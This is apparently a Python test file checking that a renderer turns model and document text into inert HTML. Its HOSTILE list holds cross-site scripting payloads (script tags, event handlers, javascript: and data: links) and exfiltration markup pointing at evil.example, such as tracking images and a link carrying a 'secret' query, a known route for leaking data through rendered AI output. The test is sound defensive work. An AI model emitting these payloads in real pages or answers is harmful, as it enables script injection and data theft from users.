"""Text from models and documents becomes HTML that loads nothing, runs nothing and links nowhere."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.rendering import to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![logo](https://evil.example/track.png)",
    "![logo][1]\n\n[1]: https://evil.example/track.png",
    "[click](javascript:alert(1))",
    "[click](https://evil.example/?q=secret)",
    "<https://evil.example>",
    "<a href='https://evil.example'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[a]: https://evil.example\n[a]",
    "<form action=https://evil.example><input name=q>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=x></object><embed src=x>",
    "1. one\n\n<ol start='1' onclick=alert(1)>",
]
HARMLESS = {*"p br hr em strong s code pre blockquote ul ol li h1 h2 h3 h4 h5 h6".split()}
HARMLESS |= {*"table thead tbody tr th td div span bdi".split()}
PLAIN = {"ol": {"start"}, "td": {"align", "class"}, "th": {"align", "class"}, "span": {"class"}}
SCROLLS = {"tabindex", "role", "aria-label"}
PLAIN |= {"pre": SCROLLS, "div": SCROLLS | {"class"}, "bdi": {"class", "data-code", "title"}}


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(name for name, _ in attrs)))


def assert_inert(html: str) -> None:
    for tag, attributes in Tags(html).seen:
        assert tag in HARMLESS, html
        assert not set(attributes) - PLAIN.get(tag, set()), html


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text: str) -> None:
    assert_inert(to_html(text))


@given(st.lists(st.sampled_from([*HOSTILE, "<", ">", "`", "\n", "    ", "word ", "*", "[", "](", ")"]), max_size=12))
def test_hostile_text_in_any_mixture_is_inert(parts: list[str]) -> None:
    assert_inert(to_html("".join(parts)))


def test_html_is_shown_as_the_text_that_it_is() -> None:
    assert to_html("<b>5 < 6</b>") == "<p>&lt;b&gt;5 &lt; 6&lt;/b&gt;</p>\n"


def test_lists_tables_and_code_are_drawn() -> None:
    html = to_html("3. three\n4. four\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x` **y** ~~z~~ *w*\n\n## t")
    drawn = ('<ol start="3">', "<td>2</td>", "<code>x</code>", "<strong>y</strong>", "<s>z</s>", "<em>w</em>")
    for part in (*drawn, "<h2>t</h2>"):
        assert part in html
